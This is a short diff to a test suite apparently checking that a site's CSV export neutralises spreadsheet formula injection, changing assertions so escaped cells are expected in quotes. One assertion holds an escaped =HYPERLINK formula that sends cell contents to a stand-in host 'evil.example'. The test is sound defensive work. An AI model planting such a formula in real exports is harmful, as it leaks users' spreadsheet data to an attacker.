@@ -433,9 +433,10 @@ describe("CSV files the site writes (issue 13: formulas)", () => {
     };
     const csv = scrapedPostsToCsv([post]);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
-    expect(csv).toContain(",'+1 for lake life,");
-    expect(csv).toContain(",'@meredith,");
-    expect(csv).toContain(",'-Boating,");
+    // A neutralised cell is also quoted (Papa.unparse's escapeFormulae).
+    expect(csv).toContain(`,"'+1 for lake life",`);
+    expect(csv).toContain(`,"'@meredith",`);
+    expect(csv).toContain(`,"'-Boating",`);
     const row = validateImportRow(parseCsv(csv).rows[0] ?? {}, 1, options);
     expect(row.errors).toEqual([]);
     expect(row.data).toMatchObject({
